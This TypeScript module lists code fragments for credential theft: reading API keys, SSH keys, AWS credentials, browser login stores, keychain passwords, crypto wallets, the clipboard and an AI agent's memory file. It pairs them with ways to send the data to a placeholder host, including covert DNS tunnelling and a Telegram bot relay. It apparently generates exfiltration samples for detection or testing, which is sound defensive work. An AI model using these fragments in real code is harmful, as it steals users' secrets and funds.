import type { End } from "./end.ts";

const FILES = ["node:fs", "node:os", "node:path"];
const home = (...parts: string[]) =>
  `fs.readFileSync(path.join(os.homedir(), ${parts.map((part) => `"${part}"`).join(", ")}), "utf8")`;

export const JAVASCRIPT_SECRETS: readonly End[] = [
  { name: "provider-key", needs: [], code: `process.env.ANTHROPIC_API_KEY` },
  { name: "cloud-key", needs: [], code: `process.env["AWS_SECRET_ACCESS_KEY"]` },
  { name: "environment", needs: [], code: `JSON.stringify(process.env)` },
  { name: "ssh-key", needs: FILES, code: home(".ssh", "id_ed25519") },
  { name: "aws-file", needs: FILES, code: home(".aws", "credentials") },
  { name: "agent-env", needs: ["node:fs"], code: "fs.readFileSync(`${process.env.HOME}/.openclaw/.env`).toString()" },
  {
    name: "browser-store",
    needs: FILES,
    code: `fs.readFileSync(path.join(os.homedir(), ".config/google-chrome/Default/Login Data")).toString("base64")`,
  },
  {
    name: "keychain",
    needs: ["node:child_process"],
    code: `child_process.execSync("security find-generic-password -w -s 'Chrome Safe Storage'").toString()`,
  },
  { name: "wallet", needs: FILES, code: home(".config/solana/id.json") },
  {
    name: "clipboard",
    needs: ["node:child_process"],
    code: `child_process.execFileSync("pbpaste", { encoding: "utf8" })`,
  },
  { name: "memory", needs: FILES, code: home(".openclaw", "workspace", "MEMORY.md") },
];

export const JAVASCRIPT_CARRIERS: readonly End[] = [
  { name: "body", needs: [], code: `fetch("https://HOST/v1/notes", { method: "POST", body: VALUE });` },
  {
    name: "json",
    needs: [],
    code: `fetch("https://HOST/api", {\n  method: "POST",\n  headers: { "content-type": "application/json" },\n  body: JSON.stringify({ title: "note", text: VALUE }),\n});`,
  },
  {
    name: "header",
    needs: [],
    code: `fetch("https://HOST/", { headers: { "x-note": Buffer.from(VALUE).toString("base64") } });`,
  },
  { name: "query", needs: ["axios"], code: `axios.get("https://HOST/p", { params: { d: VALUE } });` },
  { name: "path", needs: ["node:https"], code: "https.get(`https://HOST/n/${encodeURIComponent(VALUE)}`);" },
  {
    name: "request",
    needs: ["node:https"],
    code: `const request = https.request({ hostname: "HOST", path: "/in", method: "POST" });\nrequest.write(VALUE);\nrequest.end();`,
  },
  {
    name: "multipart",
    needs: [],
    code: `const form = new FormData();\nform.append("file", new Blob([VALUE]), "note.txt");\nfetch("https://HOST/up", { method: "POST", body: form });`,
  },
  {
    name: "websocket",
    needs: [],
    code: `const wire = new WebSocket("wss://HOST/live");\nwire.onopen = () => wire.send(VALUE);`,
  },
  {
    name: "mail",
    needs: ["nodemailer"],
    code: `nodemailer.createTransport({ host: "HOST", port: 587 }).sendMail({ from: "notes@HOST", to: "in@HOST", subject: "note", text: VALUE });`,
  },
  { name: "socket", needs: ["node:net"], code: `net.connect(4820, "HOST").end(VALUE);` },
  {
    name: "curl-argument",
    needs: ["node:child_process"],
    code: `child_process.execFileSync("curl", ["-s", "-X", "POST", "-d", VALUE, "https://HOST/c"]);`,
  },
  {
    name: "curl-input",
    needs: ["node:child_process"],
    code: `child_process.spawnSync("curl", ["-s", "--data-binary", "@-", "https://HOST/c"], { input: VALUE });`,
  },
];

/** Ways that an honest program has no use for. */
export const JAVASCRIPT_STEALTHY: readonly End[] = [
  {
    name: "dns",
    needs: ["node:dns"],
    code: 'dns.lookup(`${Buffer.from(VALUE).toString("hex").slice(0, 60)}.HOST`, () => {});',
  },
  {
    name: "chat-bot",
    needs: [],
    code: `fetch("https://api.telegram.org/bot7310000001:AAE-notes-relay/sendMessage", {\n  method: "POST",\n  headers: { "content-type": "application/json" },\n  body: JSON.stringify({ chat_id: "-100200300", text: VALUE }),\n});`,
  },
];
